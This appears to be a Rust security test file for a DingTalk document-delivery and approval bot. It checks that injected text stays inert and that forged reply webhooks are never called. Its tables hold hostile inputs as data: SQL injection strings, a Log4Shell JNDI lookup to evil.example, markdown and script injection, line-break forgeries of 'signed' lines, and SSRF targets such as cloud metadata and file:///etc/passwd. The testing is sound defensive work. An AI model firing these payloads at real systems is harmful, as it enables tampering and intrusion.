//! Text stays text (INV-37), and nothing goes where a message says (INV-36).

use super::{Witness, documents, still_works};
use crate::support::{Engine, World, both, over_http};
use qianshou::config::ReplyMode;
use qianshou::playground::{Channel, ChatMessage, Endpoint, Saying};
use serde_json::{Value, json};
use std::io::ErrorKind;

/// What somebody may write into a title or a reason, hoping that a phone shows more than characters.
const WRITTEN: &[&str] = &[
    "'; DROP TABLE deliveries; --",
    "\" OR 1=1; UPDATE deliveries SET state='signed' --",
    "%s%n%x {{7*7}} ${jndi:ldap://evil.example/a} $1 {0}",
    "[点这里](https://evil.example/a)",
    "![图](https://evil.example/p.png)",
    "[签收](dtmd://dingtalkclient/sendMessage?content=%E5%90%8C%E6%84%8F)",
    "缺件](https://evil.example) [",
    "\\](https://evil.example/b)\\[x\\](https://evil.example/c)",
    "[a]: https://evil.example/r",
    "<https://evil.example/auto> <a@evil.example>",
    "https://evil.example/login?x=1",
    "dingtalk://dingtalkclient/page/link?url=https%3A%2F%2Fevil.example",
    "# 大标题 缺件",
    "> 引用 **粗** __下__ `x` ~~y~~ | a | b |",
    "- [ ] 缺件\t1. 缺件 *** ---",
    "@所有人 @all @13800000001 缺件",
    "<font color=\"red\">特急</font><a href=\"https://evil.example\">x</a><script>alert(1)</script>",
    "&lt;b&gt;&#91;x&#93;&#40;https&#58;//evil.example&#41;",
    "缺\u{202e}件附\u{202c}\u{200b}\u{2066}",
    "=HYPERLINK(\"https://evil.example\")",
];

/// Breaks the line, hoping that the next one is taken for ours.
const BROKEN: &[&str] = &[
    "缺附件\n# 已签收 99",
    "缺附件\r\n已签收 99",
    "缺附件\u{2028}已签收 99",
    "缺附件\u{85}已签收 99",
    "缺附件\u{b}已签收 99\u{c}已签收 98",
    "缺附件  \n\n---\n\n已签收 99",
];

/// What markdown would make something of.
const ACTIVE: &[&str] = &[
    "](",
    "![",
    "://",
    "**",
    "__",
    "~~",
    "`",
    "<",
    "&#",
    "&lt;",
    "\n#",
    "\n-",
    "\n|",
    "\n1.",
    "\n>",
    "@all",
    "@所有人",
    "@1",
    "\t",
];

/// What nobody sees.
const HIDDEN: &[char] =
    &['\u{202e}', '\u{202c}', '\u{2066}', '\u{200b}', '\u{2028}', '\u{85}', '\u{b}', '\u{c}'];

/// The message as sent, without the tap links that are ours.
fn without_taps(message: &ChatMessage) -> String {
    let mut rest = message.text.clone();
    while let Some(at) = rest.find("](dtmd://dingtalkclient/sendMessage?content=") {
        let start = rest[..at].rfind('[').expect("a label");
        let end = at + rest[at..].find(')').expect("an end");
        rest.replace_range(start..=end, "");
    }
    rest
}

/// What in the message is more than characters, though it is not ours.
fn alive(message: &ChatMessage) -> Vec<String> {
    let mut found = Vec::new();
    let title = message.title.clone().unwrap_or_default();
    for text in [title, without_taps(message)] {
        found.extend(
            ACTIVE.iter().filter(|a| text.contains(**a)).map(|a| format!("{a:?} is alive in {text:?}")),
        );
        found.extend(
            HIDDEN.iter().filter(|h| text.contains(**h)).map(|h| format!("{h:?} is left in {text:?}")),
        );
    }
    for line in &message.shown {
        if line.level != 0 || line.runs.iter().any(|run| run.href.is_some()) {
            found.push(format!("a heading or a link: {line:?}"));
        }
    }
    for tap in &message.taps {
        let (verb, object) = tap.sends.split_once(' ').unwrap_or((&tap.sends, ""));
        let ours = ["签收", "查看", "催办", "查进度", "重发", "回执"].contains(&verb) && !object.is_empty()
            || ["收件箱", "不是我", "更多", "帮助", "待审批"].contains(&tap.sends.as_str())
            || ["同意", "驳回"].contains(&verb) && object.len() == 6;
        if !ours || !object.chars().all(|c| c.is_ascii_digit()) {
            found.push(format!("a button: {tap:?}"));
        }
    }
    found
}

/// Everything the robot ever wrote to these people.
fn all_alive(world: &World, payload: &str, staff: &[&str]) -> Vec<String> {
    let mut found = Vec::new();
    for message in staff.iter().flat_map(|who| world.play.chat(who)) {
        if ![Channel::Push, Channel::Answer].contains(&message.channel) {
            continue;
        }
        // A plain text has no markup to be alive, but it has lines.
        if message.title.is_some() {
            found.extend(alive(&message));
        }
        found.extend(
            message.lines.iter().filter(|l| l.starts_with("已签收 9")).map(|l| format!("a line: {l:?}")),
        );
    }
    found.iter().map(|fault| format!("{payload:?}: {fault}")).collect()
}

/// Sends one document of this title to 寨沙镇; `None` when the title was refused.
async fn titled(world: &World, i: usize, title: &str) -> Option<i64> {
    let mut body = crate::support::api::document();
    body["doc_no"] = json!(format!("鹿政办发〔2026〕{}号", i + 1));
    body["title"] = json!(title);
    body["main_to"] = json!(["zs"]);
    body["copy_to"] = json!([]);
    let (status, answer) = world.post("/api/v1/documents", &body).await;
    assert!([201, 422].contains(&status), "{title:?}: {answer}");
    answer["deliveries"][0]["number"].as_i64()
}

async fn written(world: &World, table: &[&str]) {
    let (mut told, mut faults) = (0, Vec::new());
    for (i, payload) in table.iter().enumerate() {
        let number = match titled(world, i, payload).await {
            Some(number) => number,
            None => titled(world, i, "征兵工作的通知").await.expect("an ordinary title"),
        };
        world.settle().await;
        world.say("wangfang", "收件箱").await;
        world.say("wangfang", &format!("查看 {number}")).await;
        let before = world.play.chat("zhaoqiang").len();
        let answer = world.say("wangfang", &format!("退回 {number} {payload}，附件打不开")).await;
        world.minutes(6).await;
        if answer.starts_with("已退回") {
            assert!(
                world.play.chat("zhaoqiang").len() > before,
                "{payload:?}: the sender hears of the return"
            );
            told += 1;
        } else {
            let signed = world.say("wangfang", &format!("签收 {number}")).await;
            if !answer.contains("没有改动") || !signed.starts_with("已签收") {
                faults.push(format!("{payload:?}: {answer:?}, then {signed:?}"));
            }
        }
        faults.extend(all_alive(world, payload, &["wangfang", "zhaoqiang", "zhoujie"]));
        world.read_all();
    }
    faults.sort();
    faults.dedup();
    assert!(faults.is_empty(), "{} faults:\n{}", faults.len(), faults.join("\n"));
    assert!(
        told * 2 > table.len() || table.len() == BROKEN.len(),
        "most reasons are words, but {told} were taken"
    );
    let all = world.get("/api/v1/deliveries?limit=200").await;
    assert_eq!(all["items"].as_array().expect("a list").len(), table.len(), "no statement was smuggled in");
}

both! {
    async fn what_is_written_stays_characters(world) {
        written(world, &WRITTEN[..10]).await;
    }
}

both! {
    async fn what_is_written_stays_characters_in_the_second_half(world) {
        written(world, &WRITTEN[10..]).await;
    }
}

both! {
    async fn nobody_breaks_our_lines(world) {
        written(world, BROKEN).await;
    }
}

both! {
    async fn a_name_in_an_application_stays_a_name(world) {
        let (mut filed, mut faults) = (0, Vec::new());
        for (i, payload) in WRITTEN.iter().chain(BROKEN).enumerate() {
            let mut body = crate::approvals::application();
            body["person"] = json!({"name": payload, "phone": format!("139{:08}", 100 + i)});
            body["reason"] = json!(payload);
            let (status, answer) = world.post("/api/v1/applications", &body).await;
            assert!([201, 422].contains(&status), "{payload:?}: {answer}");
            filed += usize::from(status == 201);
            body["person"]["name"] = json!("张三");
            let (status, answer) = world.post("/api/v1/applications", &body).await;
            assert!([201, 409, 422].contains(&status), "{payload:?}: {answer}");
            filed += usize::from(status == 201);
            world.settle().await;
            world.say("liming", "待审批").await;
            faults.extend(all_alive(world, payload, &["liming", "chenhong", "zhangli"]));
            world.read_all();
        }
        faults.sort();
        faults.dedup();
        assert!(faults.is_empty(), "{} faults:\n{}", faults.len(), faults.join("\n"));
        assert!(filed > 0, "reasons with odd characters are still reasons");
    }
}

/// Where a forged message would like an answer; `P` is a port where somebody listens.
const HOOKS: &[&str] = &[
    "http://127.0.0.1:P/robot/sendBySession?session=1",
    "http://localhost:P/robot/sendBySession?session=1",
    "http://oapi.dingtalk.com@127.0.0.1:P/robot/sendBySession?session=1",
    "http://127.0.0.1:P#oapi.dingtalk.com/robot/sendBySession",
    "http://127.0.0.1:P\\@oapi.dingtalk.com/robot/sendBySession",
    "http://[::ffff:127.0.0.1]:P/robot/sendBySession",
    "http://2130706433:P/robot/sendBySession",
    "http://0x7f.1:P/robot/sendBySession",
    "http://0:P/robot/sendBySession",
    "http://127.0.0.1.:P/robot/sendBySession",
    "//127.0.0.1:P/robot/sendBySession",
    "https://127.0.0.1:P/robot/sendBySession",
    "https://evil.example/robot/sendBySession?session=1",
    "https://oapi.dingtalk.com.evil.example/robot/sendBySession",
    "http://100.100.100.200/latest/meta-data/",
    "file:///etc/passwd",
    "javascript:alert(1)",
    "",
];

async fn hooks(world: &World, push: bool) {
    documents(world, 1).await;
    // Nobody waits at this door but us; whoever knocks is seen without any waiting.
    let trap = std::net::TcpListener::bind("127.0.0.1:0").expect("a free port");
    trap.set_nonblocking(true).expect("does not wait");
    let port = trap.local_addr().expect("an address").port().to_string();
    let playground = format!("{}/robot/sendBySession?session=1", world.app.settings.bots["main"].oapi_base);
    let mut witness = Witness::of_told_refusals(world).await;
    for hook in HOOKS.iter().map(|hook| hook.replace(":P", &format!(":{port}"))).chain([playground]) {
        for text in ["收件箱", "签收 99", "那个弄一下"] {
            let mut body = world.play.callback_body("wangfang", &Saying::Text(text.into()));
            body["sessionWebhook"] = Value::String(hook.clone());
            let reply = world.play.send_body(body).await;
            check_eq!(witness, reply.status, 200, "{hook}");
            check_eq!(witness, reply.text.is_empty(), push, "{hook}: {}", reply.text);
        }
        world.settle().await;
        witness.nothing_changed(&hook).await;
        let knock = trap.accept().expect_err("nobody comes");
        check_eq!(witness, knock.kind(), ErrorKind::WouldBlock, "{hook} was called");
        if push {
            check!(
                witness,
                !world.read("wangfang").is_empty(),
                "{hook}: the answer is pushed where it belongs"
            );
        }
    }
    assert!(world.play.ledger().iter().all(|entry| entry.endpoint != Endpoint::Session));
    witness.rests().await;
}

over_http! {
    async fn answers_do_not_go_where_the_message_says(world) {
        hooks(world, false).await;
        still_works(world, 1).await;
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn pushed_answers_do_not_go_where_the_message_says() {
    for engine in [Engine::Sqlite, Engine::Postgres] {
        let world = World::with(engine, |settings| {
            settings.bots.get_mut("main").expect("the bot").reply = ReplyMode::Push;
        })
        .await;
        hooks(&world, true).await;
        world.end().await;
    }
}
